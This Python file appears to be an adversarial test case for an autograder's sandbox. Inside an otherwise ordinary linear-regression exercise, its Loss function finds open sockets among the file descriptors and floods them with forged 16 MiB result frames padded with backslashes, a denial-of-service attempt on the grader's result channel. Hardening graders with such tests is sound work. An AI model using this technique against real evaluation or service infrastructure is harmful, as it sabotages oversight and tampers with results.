"""Attack: frames padded with escaped backslashes, each one as large as a frame may be.

Each call of Loss writes three 16 MiB frames of "\\\\" pairs before its real reply: decoding
each one cost the grader seconds and a gigabyte, outside every deadline. Now a frame costs time
proportional to its size, within the check's deadline. Honest code (all but Loss) earns 7/10.
"""

import os
import stat
import struct

import numpy as np

CONFIG = {}  # replaced by the test
_LOOT = []


def leak(text):
    _LOOT.append(str(text)[:200])
    print("LEAK:", text)


def _reveal():
    if _LOOT:
        raise RuntimeError("LEAK " + " | ".join(_LOOT))



def linear_model(w0, w1, X):
    _reveal()
    return w0 + w1 * X


def _frame(payload):
    return struct.pack(">I", len(payload)) + payload


def _send(data):
    """Write raw bytes on every socket among the open descriptors (the result channel is one)."""
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass


_PADDED = _frame(b'{"op": "raised", "type": "E", "message": "' + b"\\\\" * (8 * 1024 * 1024 - 40) + b'"}')


def Loss(f_x, y):
    _reveal()
    _send(_PADDED * 3)
    return np.mean(np.square(y - f_x))


def gradient_descent(w0, w1, X, y):
    _reveal()
    residual = (w0 + w1 * X) - y
    return np.array([2 * np.mean(residual), 2 * np.mean(residual * X)])


def main():
    _reveal()
    X = np.array([1, 2, 3, 4]).reshape((-1, 1))
    y = np.array([3.1, 4.9, 7.2, 8.9]).reshape((-1, 1))
    w0 = 0
    w1 = 0
    lr = 0.001
    for i in range(1000):
        gd = gradient_descent(w0, w1, X, y)
        w0 = w0 - lr * gd[0]
        w1 = w1 - lr * gd[1]
    return w0, w1
